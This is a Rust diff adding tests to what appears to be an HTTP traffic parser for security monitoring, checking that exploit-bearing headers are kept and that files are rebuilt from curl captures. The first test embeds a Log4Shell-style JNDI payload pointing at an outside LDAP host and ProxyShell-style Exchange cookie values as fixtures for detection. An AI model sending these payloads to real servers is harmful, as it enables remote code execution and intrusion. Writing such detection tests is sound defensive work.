@@ -310,3 +310,68 @@ mod props {
         }
     }
 }
+
+/// Exploit payloads in arbitrary headers are kept for detections; cookie values are not.
+#[test]
+fn exploit_bearing_headers_are_kept() {
+    let req = b"GET /ecp/y.js HTTP/1.1\r\nHost: mail.example.co.jp\r\nUser-Agent: Mozilla/5.0\r\nX-Api-Version: ${jndi:ldap://198.51.100.9:1389/a}\r\nX-Trace: plain\r\nCookie: X-AnonResource=true; X-BEResource=localhost/owa/auth/logon.aspx?~3; sid=secret\r\n\r\n";
+    let (rec, _) = run_all_cuts(http, "http", &[(Up, req)]);
+    let t = &rec.http.as_ref().unwrap().transactions[0];
+    assert!(
+        t.headers.contains(&(
+            "x-api-version".to_string(),
+            "${jndi:ldap://198.51.100.9:1389/a}".to_string()
+        )),
+        "{:?}",
+        t.headers
+    );
+    assert!(
+        t.headers
+            .contains(&("x-beresource".to_string(), "in cookie".to_string()))
+    );
+    assert!(
+        t.headers
+            .iter()
+            .all(|(n, v)| n != "x-trace" && !v.contains("secret")),
+        "{:?}",
+        t.headers
+    );
+}
+
+/// curl → python http.server on loopback. The downloaded file and the multipart upload
+/// must be byte-identical to the file served/sent (SHA-256 by sha256sum on it); method,
+/// URI, status and Server as tshark shows them for the same pcap.
+#[test]
+fn real_curl_sessions_reconstruct_files() {
+    use crate::testutil::{corpus, view};
+    let sha = include_str!("../../fuzz/corpus/http/data.bin.sha256").trim();
+
+    let t = corpus("http", "curl-pyhttp-0.bin");
+    let (rec, _) = run_all_cuts(http, "http", &view(&t));
+    let h = rec.http.unwrap();
+    assert_eq!(h.url.as_deref(), Some("127.0.0.1:48080/index.html"));
+    assert_eq!(h.status, Some(200));
+    assert_eq!(h.server.as_deref(), Some("SimpleHTTP/0.6 Python/3.11.2"));
+    assert_eq!(h.transactions[0].title.as_deref(), Some("社内ポータル"));
+
+    let t = corpus("http", "curl-pyhttp-1.bin");
+    let (rec, _) = run_all_cuts(http, "http", &view(&t));
+    assert_eq!(rec.files.len(), 1);
+    assert_eq!(rec.files[0].sha256, sha);
+    assert_eq!(rec.files[0].name.as_deref(), Some("data.bin"));
+
+    let t = corpus("http", "curl-pyhttp-2.bin");
+    let (rec, sink) = run_all_cuts(http, "http", &view(&t));
+    assert_eq!(rec.http.as_ref().unwrap().status, Some(501));
+    let upload = rec
+        .files
+        .iter()
+        .find(|f| f.direction == "upload")
+        .expect("upload reconstructed");
+    assert_eq!(upload.sha256, sha);
+    assert_eq!(upload.name.as_deref(), Some("secret.bin"));
+    assert!(
+        sink.objects.iter().any(|o| o.0.direction == Some(Down)),
+        "the 501 error page is kept too"
+    );
+}
